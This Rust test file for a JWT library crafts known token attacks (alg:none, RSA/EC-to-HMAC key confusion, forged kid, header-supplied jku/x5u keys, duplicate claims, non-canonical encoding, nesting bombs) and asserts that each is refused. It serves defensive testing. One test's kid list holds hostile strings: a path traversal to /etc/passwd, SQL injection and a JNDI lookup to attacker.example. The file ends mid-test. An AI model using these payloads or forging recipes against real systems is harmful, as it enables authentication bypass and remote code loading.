//! Known JWT attacks, one focused test each, every one asserting the exact
//! [`Error`] the library must return. Malicious tokens are crafted by hand:
//! header and payload bytes are base64url-encoded here and, where an attack
//! needs a "valid" signature, signed over `h.p` with [`SigningKey::sign`].

// Test helpers outside `#[test]` functions unwrap too.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use serde_json::{json, Value};
use std::sync::OnceLock;
use tessera_jose::{
    b64, crypto, dangerous, decode, encode, Algorithm, Error, Jwk, Jwks, KeySet, Limits,
    ManualClock, SigningKey, UnverifiedToken, Validation, VerifyingKey, ACCESS_TOKEN_TYP,
};

const NOW: i64 = 1_700_000_000;
const ISS: &str = "https://auth.example";
const AUD: &str = "api";

// ---------------------------------------------------------------- helpers

fn rsa_server() -> &'static SigningKey {
    static KEY: OnceLock<SigningKey> = OnceLock::new();
    KEY.get_or_init(|| SigningKey::generate(Algorithm::RS256).unwrap())
}

fn es_server() -> &'static SigningKey {
    static KEY: OnceLock<SigningKey> = OnceLock::new();
    KEY.get_or_init(|| SigningKey::generate(Algorithm::ES256).unwrap())
}

fn keys_of(key: &SigningKey) -> KeySet {
    [key.verifying_key().clone()].into_iter().collect()
}

fn validation() -> Validation {
    Validation::new(ISS, AUD)
}

fn claims() -> Value {
    json!({"iss": ISS, "aud": AUD, "sub": "user-1", "exp": NOW + 900, "iat": NOW})
}

fn header(key: &SigningKey) -> Value {
    json!({"alg": key.algorithm().as_str(), "typ": "at+jwt", "kid": key.kid()})
}

/// `b64(header).b64(payload).b64(sig)` from raw bytes.
fn craft(header: &[u8], payload: &[u8], sig: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64::encode(header),
        b64::encode(payload),
        b64::encode(sig)
    )
}

/// Signs `h_b64.p_b64` (given already encoded, possibly non-canonically) with `key`.
fn sign_segments(key: &SigningKey, h_b64: &str, p_b64: &str) -> String {
    let input = format!("{h_b64}.{p_b64}");
    let sig = key.sign(input.as_bytes()).unwrap();
    format!("{input}.{}", b64::encode(&sig))
}

/// Encodes raw header and payload bytes and signs them with `key`.
fn sign_raw(key: &SigningKey, header: &[u8], payload: &[u8]) -> String {
    sign_segments(key, &b64::encode(header), &b64::encode(payload))
}

fn sign_json(key: &SigningKey, header: &Value, payload: &Value) -> String {
    sign_raw(
        key,
        header.to_string().as_bytes(),
        payload.to_string().as_bytes(),
    )
}

fn decode_at(token: &str, keys: &KeySet, v: &Validation, now: i64) -> Result<Value, Error> {
    decode::<Value>(token, keys, v, &ManualClock::new(now)).map(|d| d.claims)
}

fn check(token: &str, keys: &KeySet) -> Result<Value, Error> {
    decode_at(token, keys, &validation(), NOW)
}

/// A well-formed token signed by `key` must pass; the attacks below are then
/// the only difference between a pass and a refusal.
fn assert_valid(token: &str, key: &SigningKey) {
    check(token, &keys_of(key)).expect("control token must verify");
}

// ------------------------------------------------------------- alg: none

#[test]
fn alg_none_in_any_case_is_refused() {
    let server = es_server();
    let keys = keys_of(server);
    let payload = claims().to_string();
    for none in ["none", "None", "NONE", "nOnE"] {
        for sig in [&b""[..], &b"sig"[..], &[0u8; 64][..]] {
            for hdr in [
                json!({"alg": none, "typ": "at+jwt", "kid": server.kid()}),
                json!({"alg": none, "typ": "at+jwt"}),
            ] {
                let token = craft(hdr.to_string().as_bytes(), payload.as_bytes(), sig);
                if sig.is_empty() {
                    assert!(token.ends_with('.'), "unsecured JWS form `h.p.`");
                }
                assert_eq!(
                    check(&token, &keys).unwrap_err(),
                    Error::UnsupportedAlgorithm,
                    "{none} {sig:?}"
                );
                assert_eq!(
                    UnverifiedToken::parse(&token, &Limits::default()).unwrap_err(),
                    Error::UnsupportedAlgorithm
                );
                assert_eq!(
                    dangerous::decode_unverified(&token, &Limits::default()).unwrap_err(),
                    Error::UnsupportedAlgorithm
                );
            }
        }
        assert_eq!(
            none.parse::<Algorithm>().unwrap_err(),
            Error::UnsupportedAlgorithm
        );
    }
}

#[test]
fn algorithm_names_are_case_sensitive_and_closed() {
    let server = es_server();
    let keys = keys_of(server);
    for alg in ["es256", "Es256", "HS256 ", "RS1", "ES256K", "", "PS"] {
        let hdr = json!({"alg": alg, "typ": "at+jwt", "kid": server.kid()});
        let token = sign_json(server, &hdr, &claims());
        assert_eq!(
            check(&token, &keys).unwrap_err(),
            Error::UnsupportedAlgorithm,
            "{alg:?}"
        );
    }
    // `alg` of the wrong JSON type, or absent.
    for hdr in [
        json!({"alg": 256, "typ": "at+jwt"}),
        json!({"alg": null, "typ": "at+jwt"}),
        json!({"alg": ["ES256"], "typ": "at+jwt"}),
    ] {
        let token = sign_json(server, &hdr, &claims());
        assert!(
            matches!(check(&token, &keys).unwrap_err(), Error::Malformed(_)),
            "{hdr}"
        );
    }
    let token = sign_json(server, &json!({"typ": "at+jwt"}), &claims());
    assert_eq!(
        check(&token, &keys).unwrap_err(),
        Error::Malformed("header has no alg")
    );
}

#[test]
fn stripped_signature_is_refused() {
    let server = es_server();
    let token = encode(server, Some("at+jwt"), &claims()).unwrap();
    assert_valid(&token, server);
    let (input, _) = token.rsplit_once('.').unwrap();
    assert_eq!(
        check(&format!("{input}."), &keys_of(server)).unwrap_err(),
        Error::InvalidSignature
    );
}

// ------------------------------------------------------ key confusion

/// The bytes an attacker would HMAC with: the server's public key as SPKI
/// PEM text, as SPKI DER, and as public JWK JSON text.
fn public_key_forms(key: &VerifyingKey) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("PEM", key.to_spki_pem().unwrap().into_bytes()),
        ("DER", key.to_spki_der().unwrap()),
        ("JWK", key.to_jwk().unwrap().to_json().into_bytes()),
    ]
}

#[test]
fn asymmetric_to_hmac_key_confusion_is_refused() {
    for server in [rsa_server(), es_server()] {
        let keys = keys_of(server);
        let payload = claims().to_string();
        for (form, secret) in public_key_forms(server.verifying_key()) {
            for hdr in [
                json!({"alg": "HS256", "typ": "at+jwt", "kid": server.kid()}),
                // No kid: the only key in the set is selected, and still refused.
                json!({"alg": "HS256", "typ": "at+jwt"}),
            ] {
                let h = b64::encode(hdr.to_string().as_bytes());
                let p = b64::encode(payload.as_bytes());
                let input = format!("{h}.{p}");
                let mac = crypto::hmac_sha256(&secret, input.as_bytes());
                let token = format!("{input}.{}", b64::encode(&mac));
                assert_eq!(
                    check(&token, &keys).unwrap_err(),
                    Error::AlgorithmMismatch,
                    "{} server key as {form} HMAC secret",
                    server.algorithm()
                );
            }
        }
    }
}

#[test]
fn public_key_material_is_refused_as_an_hmac_secret() {
    const LOOKALIKE: Error = Error::InvalidKey("HMAC secret looks like public key material");
    let ed = SigningKey::generate(Algorithm::EdDSA).unwrap();
    let es384 = SigningKey::generate(Algorithm::ES384).unwrap();
    for server in [rsa_server(), es_server(), &ed, &es384] {
        for (form, bytes) in public_key_forms(server.verifying_key()) {
            for alg in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
                let err = VerifyingKey::from_hmac_secret(alg, &bytes).unwrap_err();
                let err2 = SigningKey::from_hmac_secret(alg, &bytes).unwrap_err();
                assert_eq!(err, err2);
                if bytes.len() >= alg.min_hmac_len() {
                    assert_eq!(err, LOOKALIKE, "{} as {form} for {alg}", server.algorithm());
                } else {
                    assert!(matches!(err, Error::InvalidKey(_)), "{err:?}");
                }
            }
        }
    }
    // Leading whitespace does not hide PEM or JSON.
    let pem = format!(
        "\n  {}",
        rsa_server().verifying_key().to_spki_pem().unwrap()
    );
    assert_eq!(
        VerifyingKey::from_hmac_secret(Algorithm::HS256, pem.as_bytes()).unwrap_err(),
        LOOKALIKE
    );
    // An ordinary secret of the right length is fine.
    assert!(VerifyingKey::from_hmac_secret(Algorithm::HS256, &[7u8; 32]).is_ok());
}

#[test]
fn oct_jwk_is_not_a_public_key() {
    let hs = SigningKey::generate(Algorithm::HS256).unwrap();
    let oct = hs.to_private_jwk().unwrap();
    assert_eq!(oct.kty, "oct");
    assert_eq!(
        VerifyingKey::from_jwk(&oct, None).unwrap_err(),
        Error::InvalidKey("symmetric JWKs are not public keys")
    );
    assert_eq!(
        VerifyingKey::from_jwk(&oct, Some(Algorithm::HS256)).unwrap_err(),
        Error::InvalidKey("symmetric JWKs are not public keys")
    );
    let mut no_alg = oct.clone();
    no_alg.alg = None;
    assert!(matches!(
        VerifyingKey::from_jwk(&no_alg, None).unwrap_err(),
        Error::InvalidKey(_)
    ));
    // An oct JWK claiming an asymmetric algorithm does not fit either.
    let mut claims_rs = oct.clone();
    claims_rs.alg = Some("RS256".into());
    assert_eq!(
        VerifyingKey::from_jwk(&claims_rs, None).unwrap_err(),
        Error::InvalidKey("JWK kty does not fit the algorithm")
    );
    // A key set fetched from somewhere skips symmetric keys.
    let jwks = Jwks {
        keys: vec![oct, es_server().verifying_key().to_jwk().unwrap()],
    };
    let set = KeySet::from_jwks(&Jwks::from_json(&jwks.to_json()).unwrap());
    assert_eq!(set.len(), 1);
    assert!(set.get(hs.kid()).is_none());
    assert!(set.get(es_server().kid()).is_some());
}

#[test]
fn same_family_algorithm_swap_is_refused() {
    // A correctly signed RS256 token relabelled PS256 (and vice versa), and HS256 → HS512.
    let rs = rsa_server();
    let ps = SigningKey::from_der(Algorithm::PS256, &rs.to_pkcs8_der().unwrap()).unwrap();
    let hs = SigningKey::generate(Algorithm::HS256).unwrap();
    for (key, other) in [
        (rs, "PS256"),
        (&ps, "RS256"),
        (&hs, "HS512"),
        (&hs, "HS384"),
    ] {
        let hdr = json!({"alg": other, "typ": "at+jwt", "kid": key.kid()});
        let token = sign_json(key, &hdr, &claims());
        assert_eq!(
            check(&token, &keys_of(key)).unwrap_err(),
            Error::AlgorithmMismatch,
            "{} key, header {other}",
            key.algorithm()
        );
    }
}

// --------------------------------------------------------- bad ECDSA

fn with_signature(token: &str, sig: &[u8]) -> String {
    let (input, _) = token.rsplit_once('.').unwrap();
    format!("{input}.{}", b64::encode(sig))
}

#[test]
fn zero_and_out_of_range_ecdsa_signatures_are_refused() {
    // P-256 and P-384 group orders.
    const N256: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    const N384: &str = "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973";
    fn hex(s: &str) -> Vec<u8> {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    }
    let es384 = SigningKey::generate(Algorithm::ES384).unwrap();
    for (key, len, order) in [(es_server(), 32, N256), (&es384, 48, N384)] {
        let keys = keys_of(key);
        let token = encode(key, Some("at+jwt"), &claims()).unwrap();
        assert_valid(&token, key);
        let good = b64::decode(token.rsplit_once('.').unwrap().1.as_bytes(), "sig").unwrap();
        assert_eq!(good.len(), 2 * len);
        let (r, s) = good.split_at(len);
        let zero = vec![0u8; len];
        let n = hex(order);
        let cases: Vec<(&str, Vec<u8>)> = vec![
            ("r=0,s=0", [&zero[..], &zero[..]].concat()),
            ("r=0", [&zero[..], s].concat()),
            ("s=0", [r, &zero[..]].concat()),
            ("r=n", [&n[..], s].concat()),
            ("s=n", [r, &n[..]].concat()),
            ("truncated", good[..2 * len - 1].to_vec()),
            ("extended", [&good[..], &[0u8][..]].concat()),
            ("empty", Vec::new()),
        ];
        for (what, sig) in cases {
            assert_eq!(
                check(&with_signature(&token, &sig), &keys).unwrap_err(),
                Error::InvalidSignature,
                "{} {what}",
                key.algorithm()
            );
        }
        // The same (r, s) as an ASN.1 DER ECDSA-Sig-Value is not a JWS signature.
        let int = |v: &[u8]| {
            let v: Vec<u8> = v.iter().copied().skip_while(|b| *b == 0).collect();
            let v = if v.first().is_some_and(|b| b & 0x80 != 0) {
                [&[0u8][..], &v].concat()
            } else {
                v
            };
            [&[0x02, u8::try_from(v.len()).unwrap()][..], &v].concat()
        };
        let body = [int(r), int(s)].concat();
        let der = if body.len() < 0x80 {
            [&[0x30, u8::try_from(body.len()).unwrap()][..], &body].concat()
        } else {
            [&[0x30, 0x81, u8::try_from(body.len()).unwrap()][..], &body].concat()
        };
        assert_eq!(
            check(&with_signature(&token, &der), &keys).unwrap_err(),
            Error::InvalidSignature,
            "DER signature"
        );
    }
    // All-zero Ed25519 signature too.
    let ed = SigningKey::generate(Algorithm::EdDSA).unwrap();
    let token = encode(&ed, Some("at+jwt"), &claims()).unwrap();
    assert_valid(&token, &ed);
    assert_eq!(
        check(&with_signature(&token, &[0u8; 64]), &keys_of(&ed)).unwrap_err(),
        Error::InvalidSignature
    );
}

// -------------------------------------------------- attacker-held keys

#[test]
fn attacker_key_with_server_kid_is_refused() {
    let ed_server = SigningKey::generate(Algorithm::EdDSA).unwrap();
    for server in [rsa_server(), es_server(), &ed_server] {
        let attacker = SigningKey::generate(server.algorithm())
            .unwrap()
            .with_kid(server.kid());
        assert_ne!(
            attacker.verifying_key().thumbprint().unwrap(),
            server.verifying_key().thumbprint().unwrap()
        );
        let token = encode(&attacker, Some("at+jwt"), &claims()).unwrap();
        // The token is otherwise perfect: it verifies under the attacker's own key.
        assert_valid(&token, &attacker);
        assert_eq!(
            check(&token, &keys_of(server)).unwrap_err(),
            Error::InvalidSignature,
            "{}",
            server.algorithm()
        );
    }
}

#[test]
fn keys_in_the_header_are_never_used() {
    let server = es_server();
    let attacker = SigningKey::generate(Algorithm::ES256).unwrap();
    let attacker_jwk = serde_json::to_value(attacker.verifying_key().to_jwk().unwrap()).unwrap();
    let mut other = keys_of(server);
    other.insert(
        SigningKey::generate(Algorithm::EdDSA)
            .unwrap()
            .verifying_key()
            .clone(),
    );

    let references = [
        ("jwk", attacker_jwk),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("x5u", json!("https://attacker.example/cert.pem")),
        (
            "x5c",
            json!(["MIIBszCCAVmgAwIBAgIUeW91IHNoYWxsIG5vdCBwYXNz"]),
        ),
    ];
    for (name, value) in references {
        // With the server's kid: the header's key is ignored, the server's is used.
        let mut hdr = header(&attacker);
        hdr["kid"] = json!(server.kid());
        hdr[name] = value.clone();
        let token = sign_json(&attacker, &hdr, &claims());
        let parsed = UnverifiedToken::parse(&token, &Limits::default()).unwrap();
        assert!(parsed.header().has_embedded_key_reference(), "{name}");
        assert_eq!(
            check(&token, &keys_of(server)).unwrap_err(),
            Error::InvalidSignature,
            "{name} with server kid"
        );

        // Without a kid: the lone server key is used, never the header's.
        let mut hdr = json!({"alg": "ES256", "typ": "at+jwt"});
        hdr[name] = value.clone();
        let token = sign_json(&attacker, &hdr, &claims());
        assert_eq!(
            check(&token, &keys_of(server)).unwrap_err(),
            Error::InvalidSignature,
            "{name} without kid"
        );
        // With no key to select, the header does not supply one.
        assert_eq!(
            check(&token, &KeySet::new()).unwrap_err(),
            Error::UnknownKey
        );
        assert_eq!(check(&token, &other).unwrap_err(), Error::UnknownKey);
    }
    // An ordinary token carries no such reference.
    let plain = encode(server, Some("at+jwt"), &claims()).unwrap();
    let parsed = UnverifiedToken::parse(&plain, &Limits::default()).unwrap();
    assert!(!parsed.header().has_embedded_key_reference());
}

#[test]
fn hostile_kid_values_find_no_key() {
    let server = es_server();
    let keys = keys_of(server);
    let long = "k".repeat(5000);
    let hostile = [
        "../../etc/passwd",
        "/dev/null",
        "' OR 1=1 --",
        "\"; DROP TABLE keys; --",
        "\0",
        "kid\0",
        "\0\0\0\0",
        "",
        " ",
        "${jndi:ldap://attacker.example/a}",
        "%00",
        "\u{202e}dik",
        long.as_str(),
    ];
    for kid in hostile {
        // Signed with the server's own key, so only the kid can be the reason.
        let hdr = json!({"alg": "ES256", "typ": "at+jwt", "kid": kid});
        let token = sign_json(server, &hdr, &claims());
        assert!(token.len() <= Limits::default().max_token_len);
        let parsed = UnverifiedToken::parse(&token, &Limits::default()).unwrap();
        assert_eq!(parsed.header().kid(), Some(kid));
        assert_eq!(
            check(&token, &keys).unwrap_err(),
            Error::UnknownKey,
            "{:?}",
            &kid[..kid.len().min(20)]
        );
    }
    // A kid that is not a string is malformed.
    for kid in [json!(1), json!(null), json!(["a"]), json!({"a": 1})] {
        let hdr = json!({"alg": "ES256", "typ": "at+jwt", "kid": kid});
        assert_eq!(
            check(&sign_json(server, &hdr, &claims()), &keys).unwrap_err(),
            Error::Malformed("header member has the wrong type")
        );
    }
    // A kid that makes the token too long is refused before anything else.
    let hdr = json!({"alg": "ES256", "typ": "at+jwt", "kid": "k".repeat(8000)});
    assert_eq!(
        check(&sign_json(server, &hdr, &claims()), &keys).unwrap_err(),
        Error::TooLarge
    );
}

// ------------------------------------------------------------- crit

#[test]
fn critical_extensions_are_refused() {
    let server = es_server();
    let keys = keys_of(server);
    let extras = [
        json!({"crit": ["exp"], "exp": NOW + 60}),
        json!({"crit": ["https://example.com/unknown"], "https://example.com/unknown": true}),
        json!({"crit": []}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"b64": false, "crit": ["b64"]}),
        json!({"b64": false}),
    ];
    for extra in extras {
        let mut hdr = header(server);
        for (k, v) in extra.as_object().unwrap() {
            hdr[k] = v.clone();
        }
        let token = sign_json(server, &hdr, &claims());
        assert_eq!(
            check(&token, &keys).unwrap_err(),
            Error::UnsupportedCritical,
            "{extra}"
        );
        assert_eq!(
            UnverifiedToken::parse(&token, &Limits::default()).unwrap_err(),
            Error::UnsupportedCritical
        );
    }
    // Member order does not matter: `crit` after `alg`, `kid`, `typ` or before them.
    let raw = format!(
        r#"{{"crit":["b64"],"b64":false,"alg":"ES256","typ":"at+jwt","kid":"{}"}}"#,
        server.kid()
    );
    let token = sign_raw(server, raw.as_bytes(), claims().to_string().as_bytes());
    assert_eq!(
        check(&token, &keys).unwrap_err(),
        Error::UnsupportedCritical
    );
}

// -------------------------------------------------------- duplicates

#[test]
fn duplicate_header_members_are_refused() {
    let server = es_server();
    let keys = keys_of(server);
    let kid = server.kid();
    let headers = [
        format!(r#"{{"alg":"ES256","alg":"HS256","typ":"at+jwt","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","alg":"ES256","typ":"at+jwt","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","typ":"at+jwt","kid":"{kid}","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","typ":"JWT","typ":"at+jwt","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","typ":"at+jwt","kid":"{kid}","x":1,"x":2}}"#),
        // An escaped name is the same name.
        format!(r#"{{"alg":"ES256","\u0061lg":"ES256","typ":"at+jwt","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","typ":"at+jwt","kid":"{kid}","x":{{"a":1,"a":2}}}}"#),
    ];
    let payload = claims().to_string();
    for h in headers {
        let token = sign_raw(server, h.as_bytes(), payload.as_bytes());
        assert_eq!(
            check(&token, &keys).unwrap_err(),
            Error::DuplicateMember,
            "{h}"
        );
        assert_eq!(
            dangerous::decode_unverified(&token, &Limits::default()).unwrap_err(),
            Error::DuplicateMember
        );
    }
}

#[test]
fn duplicate_claims_are_refused_even_when_signed() {
    let server = es_server();
    let keys = keys_of(server);
    let hdr = header(server).to_string();
    let base = format!(r#""iss":"{ISS}","aud":"{AUD}","exp":{}"#, NOW + 900);
    let payloads = [
        format!(r#"{{{base},"sub":"user-1","sub":"admin"}}"#),
        format!(r#"{{{base},"exp":{}}}"#, NOW + 999_999),
        format!(r#"{{"exp":{},{base}}}"#, NOW - 999),
        format!(r#"{{{base},"aud":"other"}}"#),
        format!(r#"{{{base},"iss":"https://evil.example"}}"#),
        format!(r#"{{{base},"role":"user","role":"admin"}}"#),
        format!(r#"{{{base},"\u0073ub":"a","sub":"b"}}"#),
        format!(r#"{{{base},"nested":{{"role":"user","role":"admin"}}}}"#),
        format!(r#"{{{base},"list":[{{"a":1,"a":1}}]}}"#),
    ];
    for p in payloads {
        let token = sign_raw(server, hdr.as_bytes(), p.as_bytes());
        // The signature is genuine.
        assert!(UnverifiedToken::parse(&token, &Limits::default())
            .unwrap()
            .verify_with(&keys)
            .is_ok());
        assert_eq!(
            check(&token, &keys).unwrap_err(),
            Error::DuplicateMember,
            "{p}"
        );
        assert_eq!(
            dangerous::decode_unverified(&token, &Limits::default()).unwrap_err(),
            Error::DuplicateMember
        );
    }
}

// -------------------------------------------- non-canonical base64url

/// A header and payload whose encodings contain `-` and `_` and whose
/// lengths leave unused bits in the last character.
fn b64_control(server: &SigningKey) -> (String, String) {
    let pad = |mut v: Value| {
        // `?` encodes to `_` and `>` to `-` when aligned; six of each guarantee alignment.
        v["x"] = json!("??????>>>>>>");
        let mut n = 0;
        while v.to_string().len() % 3 == 0 {
            n += 1;
            v["y"] = json!("z".repeat(n));
        }
        v.to_string()
    };
    (pad(header(server)), pad(claims()))
}

fn std_alphabet(s: &str) -> String {
    s.replace('-', "+").replace('_', "/")
}

fn padded(s: &str) -> String {
    let mut s = s.to_owned();
    while s.len() % 4 != 0 {
        s.push('=');
    }
    s
}

/// Sets unused low bits in the last character of an unpadded segment.
fn dirty_trailing_bits(s: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let unused = match s.len() % 4 {
        2 => 0x0f,
        3 => 0x03,
        _ => panic!("segment has no unused bits"),
    };
    let last = *s.as_bytes().last().unwrap();
    let v = ALPHABET.iter().position(|c| *c == last).unwrap();
    assert_eq!(v & unused, 0, "canonical encodings have zero unused bits");
    let mut out = s[..s.len() - 1].to_owned();
    out.push(char::from(ALPHABET[v | unused]));
    assert_eq!(
        b64::decode(s.as_bytes(), "x").ok(),
        base64_lenient(&out),
        "same bytes"
    );
    out
}

/// What a lenient decoder would read (to show the dirty form means the same bytes).
fn base64_lenient(s: &str) -> Option<Vec<u8>> {
    let v = s.len() % 4;
    let mut t = s.to_owned();
    // Clear the unused bits again, then decode strictly.
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mask = if v == 2 { 0x30 } else { 0x3c };
    let last = *t.as_bytes().last()?;
    let i = ALPHABET.iter().position(|c| *c == last)?;
    t.pop();
    t.push(char::from(ALPHABET[i & mask]));
    b64::decode(t.as_bytes(), "x").ok()
}

#[test]
fn non_canonical_base64url_is_refused() {
    let server = es_server();
    let keys = keys_of(server);
    let (hj, pj) = b64_control(server);
    let h = b64::encode(hj.as_bytes());
    let p = b64::encode(pj.as_bytes());
    assert!(h.contains('-') && h.contains('_'), "{h}");
    assert!(p.contains('-') && p.contains('_'), "{p}");
    assert_ne!(h.len() % 4, 0);
    assert_ne!(p.len() % 4, 0);
    // ECDSA signatures are randomized: sign until the signature also has `-` or `_`.
    let good = (0..200)
        .map(|_| sign_segments(server, &h, &p))
        .find(|t| t.rsplit('.').next().unwrap().contains(['-', '_']))
        .unwrap();
    assert_valid(&good, server);
    let s = good.rsplit('.').next().unwrap().to_owned();
    assert_eq!(s.len() % 4, 2, "ES256 signatures are 86 characters");

    let bad_h = Error::Malformed("header is not base64url");
    let bad_p = Error::Malformed("payload is not base64url");
    let bad_s = Error::Malformed("signature is not base64url");

    // Each variant is signed over its own (non-canonical) signing input, so
    // the signature is genuine and only the encoding can be the reason.
    let signed = |h: &str, p: &str| sign_segments(server, h, p);
    let with_sig = |s2: &str| format!("{h}.{p}.{s2}");
    let cases: Vec<(&str, String, Error)> = vec![
        ("header padding", signed(&padded(&h), &p), bad_h.clone()),
        (
            "header std alphabet",
            signed(&std_alphabet(&h), &p),
            bad_h.clone(),
        ),
        (
            "header space",
            signed(&format!("{} {}", &h[..4], &h[4..]), &p),
            bad_h.clone(),
        ),
        (
            "header newline",
            signed(&format!("{}\n{}", &h[..4], &h[4..]), &p),
            bad_h.clone(),
        ),
        (
            "header leading tab",
            signed(&format!("\t{h}"), &p),
            bad_h.clone(),
        ),
        (
            "header trailing bits",
            signed(&dirty_trailing_bits(&h), &p),
            bad_h.clone(),
        ),
        ("payload padding", signed(&h, &padded(&p)), bad_p.clone()),
        (
            "payload std alphabet",
            signed(&h, &std_alphabet(&p)),
            bad_p.clone(),
        ),
        (
            "payload space",
            signed(&h, &format!("{} {}", &p[..4], &p[4..])),
            bad_p.clone(),
        ),
        (
            "payload CRLF",
            signed(&h, &format!("{}\r\n{}", &p[..4], &p[4..])),
            bad_p.clone(),
        ),
        (
            "payload trailing bits",
            signed(&h, &dirty_trailing_bits(&p)),
            bad_p.clone(),
        ),
        ("signature padding", with_sig(&padded(&s)), bad_s.clone()),
        (
            "signature std alphabet",
            with_sig(&std_alphabet(&s)),
            bad_s.clone(),
        ),
        (
            "signature space",
            with_sig(&format!("{} {}", &s[..4], &s[4..])),
            bad_s.clone(),
        ),
        (
            "trailing newline",
            with_sig(&format!("{s}\n")),
            bad_s.clone(),
        ),
        (
            "signature trailing bits",
            with_sig(&dirty_trailing_bits(&s)),
            bad_s.clone(),
        ),
    ];
    for (what, token, want) in cases {
        assert_ne!(token, good);
        assert_eq!(check(&token, &keys).unwrap_err(), want, "{what}");
        let err = dangerous::decode_unverified(&token, &Limits::default()).unwrap_err();
        assert!(matches!(err, Error::Malformed(_)), "{what}: {err:?}");
    }
}

#[test]
fn segment_structure_is_strict() {
    let server = es_server();
    let keys = keys_of(server);
    let good = encode(server, Some("at+jwt"), &claims()).unwrap();
    assert_valid(&good, server);
    let (h, rest) = good.split_once('.').unwrap();
    let (p, s) = rest.split_once('.').unwrap();
    let three = Error::Malformed("a compact JWS has exactly three segments");
    for token in [
        String::new(),
        ".".into(),
        format!("{h}.{p}"),
        format!("{h}.{p}.{s}."),
        format!("{good}.{s}"),
        format!("{h}.{p}.{s}.x.y"), // JWE-like, five segments
        format!("{h}{p}{s}"),
    ] {
        assert_eq!(check(&token, &keys).unwrap_err(), three, "{token}");
    }
    assert_eq!(
        check(&format!(".{p}.{s}"), &keys).unwrap_err(),
        Error::Malformed("empty header")
    );
    // A header that is JSON but not an object.
    for hj in [
        "[]",
        "\"ES256\"",
        "null",
        "1",
        "",
        "{",
        "{\"alg\":\"ES256\"} {}",
    ] {
        let token = sign_raw(server, hj.as_bytes(), claims().to_string().as_bytes());
        assert!(
            matches!(check(&token, &keys).unwrap_err(), Error::Malformed(_)),
            "{hj}"
        );
    }
    // A payload that is signed but not a JSON object.
    for pj in ["[]", "null", "\"claims\"", "not json", "{\"iss\":\"a\"", ""] {
        let token = sign_raw(server, header(server).to_string().as_bytes(), pj.as_bytes());
        assert!(
            matches!(check(&token, &keys).unwrap_err(), Error::Malformed(_)),
            "{pj}"
        );
    }
}

// ---------------------------------------------------- size and depth

#[test]
fn oversized_tokens_are_refused_before_parsing() {
    let server = es_server();
    let keys = keys_of(server);
    let max = Limits::default().max_token_len;
    assert_eq!(max, 8 * 1024);
    // Not even a JWS: refused for its size, not its shape.
    let junk = "x".repeat(max + 1);
    assert_eq!(check(&junk, &keys).unwrap_err(), Error::TooLarge);
    assert_eq!(
        UnverifiedToken::parse(&junk, &Limits::default()).unwrap_err(),
        Error::TooLarge
    );
    assert_eq!(
        dangerous::decode_unverified(&junk, &Limits::default()).unwrap_err(),
        Error::TooLarge
    );
    assert_eq!(
        check(&"x".repeat(max), &keys).unwrap_err(),
        Error::Malformed("a compact JWS has exactly three segments")
    );
    // A genuine token with a large claim.
    let mut c = claims();
    c["blob"] = json!("a".repeat(7000));
    let big = encode(server, Some("at+jwt"), &c).unwrap();
    assert!(big.len() > max);
    assert_eq!(check(&big, &keys).unwrap_err(), Error::TooLarge);

    // The cap is inclusive: a token of exactly `max_token_len` passes, one byte less does not.
    let token = encode(server, Some("at+jwt"), &claims()).unwrap();
    let exact = Limits {
        max_token_len: token.len(),
        ..Limits::default()
    };
    let v = validation().with_limits(exact);
    assert!(decode_at(&token, &keys, &v, NOW).is_ok());
    let tight = Limits {
        max_token_len: token.len() - 1,
        ..Limits::default()
    };
    let v = validation().with_limits(tight);
    assert_eq!(
        decode_at(&token, &keys, &v, NOW).unwrap_err(),
        Error::TooLarge
    );
}

fn nested(levels: usize) -> String {
    format!("{}{}", "[".repeat(levels), "]".repeat(levels))
}

#[test]
fn deep_nesting_is_refused() {
    let server = es_server();
    let keys = keys_of(server);
    let kid = server.kid();
    let claims_json = claims().to_string();
    let body = &claims_json[1..claims_json.len() - 1];
    // The default depth is 32 levels, counting the top-level object.
    assert_eq!(Limits::default().max_depth, 32);
    let header_with = |levels: usize| {
        format!(
            r#"{{"alg":"ES256","typ":"at+jwt","kid":"{kid}","x":{}}}"#,
            nested(levels)
        )
    };
    let payload_with = |levels: usize| format!(r#"{{{body},"x":{}}}"#, nested(levels));

    // Object + 31 arrays = 32 levels: accepted.
    let ok = sign_raw(
        server,
        header_with(31).as_bytes(),
        payload_with(31).as_bytes(),
    );
    assert!(check(&ok, &keys).is_ok());
    // 33 levels: refused, in the header and in the signed payload.
    let deep_h = sign_raw(server, header_with(32).as_bytes(), claims_json.as_bytes());
    assert_eq!(check(&deep_h, &keys).unwrap_err(), Error::TooDeep);
    let deep_p = sign_raw(
        server,
        header(server).to_string().as_bytes(),
        payload_with(32).as_bytes(),
    );
    assert_eq!(check(&deep_p, &keys).unwrap_err(), Error::TooDeep);
    assert_eq!(
        dangerous::decode_unverified(&deep_p, &Limits::default()).unwrap_err(),
        Error::TooDeep
    );
    // Objects count like arrays.
    let objs = format!(
        r#"{{{body},"x":{}1{}}}"#,
        r#"{"a":"#.repeat(32),
        "}".repeat(32)
    );
    let deep_o = sign_raw(
        server,
        header(server).to_string().as_bytes(),
        objs.as_bytes(),
    );
    assert_eq!(check(&deep_o, &keys).unwrap_err(), Error::TooDeep);

    // Far beyond serde_json's own recursion limit, within the size cap: no stack
    // overflow, the depth cap answers first.
    let huge_h = sign_raw(server, header_with(2500).as_bytes(), claims_json.as_bytes());
    assert!(huge_h.len() <= Limits::default().max_token_len);
